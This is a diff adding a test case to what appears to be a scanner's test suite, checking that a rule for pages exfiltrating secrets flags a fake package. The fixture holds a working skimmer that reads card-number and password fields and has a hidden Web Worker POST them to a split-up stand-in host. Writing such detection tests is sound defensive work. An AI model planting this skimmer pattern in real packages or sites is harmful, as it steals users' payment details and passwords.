@@ -167,6 +167,27 @@ describe('a page worker started from code in the package is a way out for what i
     expect(ruleOf(r, 'js.page-secret-exfil')?.confidence).toBeGreaterThanOrEqual(0.8);
   });
 
+  it('attacker rewrite: the worker in a pool module behind a send wrapper, its handler a bare onmessage', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ name: 'maskit-ui', main: 'src/index.js', browser: 'src/index.js' }),
+      'src/pool.js': [
+        `const CODE = ${JSON.stringify(["let t = '';", 'onmessage = (m) => {', "  if (m.data.kind === 'target') { t = m.data.to; return; }", "  fetch(t, { method: 'POST', keepalive: true, body: JSON.stringify(m.data) });", '};'].join('\n'))};`,
+        'export function makePool() {',
+        '  const w = new Worker(URL.createObjectURL(new Blob([CODE])));',
+        "  w.postMessage({ kind: 'target', to: 'https://' + ['telemetry', 'maskit-cdn', 'example'].join('.') + '/c' });",
+        '  return { send: (x) => w.postMessage(x) };',
+        '}',
+      ].join('\n'),
+      'src/index.js': [
+        "import { makePool } from './pool.js';",
+        'const pool = makePool();',
+        "for (const f of document.querySelectorAll('input[autocomplete=cc-number], input[type=password]'))",
+        "  f.addEventListener('change', () => pool.send({ n: f.name, v: f.value }));",
+      ].join('\n'),
+    });
+    expect(ruleOf(r, 'js.page-secret-exfil')?.confidence).toBeGreaterThanOrEqual(0.8);
+  });
+
   it('quiet: a worker that formats numbers off the main thread', () => {
     const r = analyzeSource({
       'package.json': pkg({ name: 'formkit-mask', main: 'src/index.js', browser: 'src/index.js' }),
